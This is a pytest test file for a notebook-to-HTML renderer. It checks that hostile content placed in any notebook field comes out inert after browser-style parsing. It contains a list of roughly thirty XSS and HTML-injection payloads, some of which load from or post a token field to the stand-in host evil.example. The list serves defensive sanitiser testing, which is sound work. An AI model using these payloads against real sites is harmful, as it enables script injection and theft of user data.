"""The page of a notebook: what hostile text becomes, parsed as a browser would."""

from __future__ import annotations

import re
from typing import Any

import pytest
from bleach._vendor import html5lib  # the parser that browsers' behaviour is specified by

from opslib.runs import html
from opslib.runs.formats import NotebookNode, v4

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/x.png>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1)></svg>",
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=http://evil.example>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=http://evil.example><input name=token><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import url(http://evil.example/x.css)</style>",
    "<p style='background:url(http://evil.example)'>x</p>",
    "<object data=http://evil.example></object><embed src=http://evil.example>",
    "<video src=http://evil.example onerror=alert(1)></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>x</details>",
    "</pre></section></main></body><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "![x](http://evil.example/x.png)",
    "[x](javascript:alert(1))",
    "\x00<scr\x00ipt>alert(1)</script>",
    "]]><script>alert(1)</script>",
]
PLAIN = {"html", "head", "meta", "title", "style", "body", "header", "main", "section"}


def page(*cells: NotebookNode, **metadata: Any) -> Any:
    return html5lib.parse(
        html.render(v4.new_notebook(cells=list(cells), metadata=metadata)), namespaceHTMLElements=False
    )


def harmless(tree: Any) -> None:
    """Nothing in the tree runs, loads or leads anywhere."""
    policies = 0
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag in html._TAGS | PLAIN, element.tag
        for name, value in element.attrib.items():
            assert not name.startswith("on"), name
            assert name not in ("srcset", "srcdoc", "action", "formaction", "ping", "background"), name
            if name == "href":
                assert value.startswith("#")
            if name == "src":
                assert value.startswith("data:image/")
            if name == "style":
                assert "url" not in value
            if name == "http-equiv":
                assert (element.tag, value) == ("meta", "Content-Security-Policy")
                policies += 1
    assert policies == 1


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless_wherever_it_stands(text: str) -> None:
    cell = v4.new_code_cell(
        text,
        metadata={"tags": [text.replace(",", "")], "runbook": {"status": "succeeded"}},
        outputs=[
            v4.new_output("stream", name="stdout", text=text),
            v4.new_output("stream", name="stderr", text=text),
            v4.new_output("error", ename=text, evalue=text, traceback=[text]),
            *(
                v4.new_output(
                    "display_data", data={kind: text, "text/plain": text}, metadata={kind: {"isolated": True}}
                )
                for kind in (
                    "text/html",
                    "text/markdown",
                    "text/latex",
                    "text/plain",
                    "image/svg+xml",
                    "image/png",
                    "application/javascript",
                    "text/vnd.mermaid",
                    "application/vnd.jupyter.widget-view+json",
                )
            ),
        ],
    )
    raw = v4.new_raw_cell(text, metadata={"raw_mimetype": "text/html"})
    cell["id"] = "message"  # what it says stands above as well
    harmless(
        page(v4.new_markdown_cell(text), cell, raw, runbook={"title": text}, run={"state": text, "incident": text})
    )


def test_page_reads_well() -> None:
    table = "<table class='dataframe'><tr><td>7</td></tr></table>"
    nodes = [
        v4.new_markdown_cell("# VaR breach\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`code` and **bold**"),
        v4.new_code_cell(
            "x = 1",
            metadata={"runbook": {"status": "succeeded", "took_s": 0.25}},
            outputs=[
                v4.new_output("stream", name="stdout", text="1 < 2\n\x1b[31mred\x1b[0m"),
                v4.new_output("display_data", data={"text/html": table}),
                v4.new_output("display_data", data={"image/png": "aGVsbG8=", "text/plain": "<Figure>"}),
            ],
        ),
    ]
    tree = page(*nodes, runbook={"id": "A11", "title": "VaR breach"}, run={"state": "succeeded", "incident": "INC-1"})
    text = "".join(tree.itertext())
    assert tree.find(".//title").text == "A11 VaR breach"
    assert "1 < 2" in text
    assert [cell.text for cell in tree.iter("td")] == ["1", "2", "7"]
    assert tree.find(".//img").attrib["src"] == "data:image/png;base64,aGVsbG8="
    assert "0.25 s" in text
    assert {"INC-1", "succeeded"} <= {(element.text or "").strip() for element in tree.iter("span")}


def test_what_the_last_cell_says_in_short_is_on_the_first_screen() -> None:
    said = v4.new_output("stream", name="stdout", text="L1 (ben, Phone: 1) at 14:00.\nProposed: <b>nothing</b>.\n")
    nodes = [v4.new_markdown_cell("# Title"), v4.new_code_cell("print()", id="message", outputs=[said])]
    short = page(*nodes).find(".//section")
    assert ["".join(line.itertext()) for line in short.iter("p")] == [
        "L1 (ben, Phone: 1) at 14:00.",
        "Proposed: <b>nothing</b>.",
    ]
    assert [label.text for label in short.iter("b")] == ["Proposed:"]
    assert short.attrib["class"] == "short"
    nodes[1]["outputs"] = []
    assert "In short" not in "".join(page(*nodes).itertext())


def test_page_names_no_address() -> None:
    whole = html.render(v4.new_notebook(cells=[v4.new_markdown_cell("# T\n\n$x^2$"), v4.new_code_cell("1")]))
    assert re.findall(r"(?:https?:)?//[a-z0-9.-]+", whole) == []


def test_long_outputs_are_cut() -> None:
    cell = v4.new_code_cell("", outputs=[v4.new_output("stream", name="stdout", text="x" * 3_000_000)])
    whole = html.render(v4.new_notebook(cells=[cell]))
    assert len(whole) < 300_000
    assert "2,800,000 characters more are in the notebook" in whole


def test_notebook_is_not_changed() -> None:
    node = v4.new_notebook(cells=[v4.new_markdown_cell("<script>x</script>", id="a")])
    before = str(node)
    html.render(node)
    assert str(node) == before
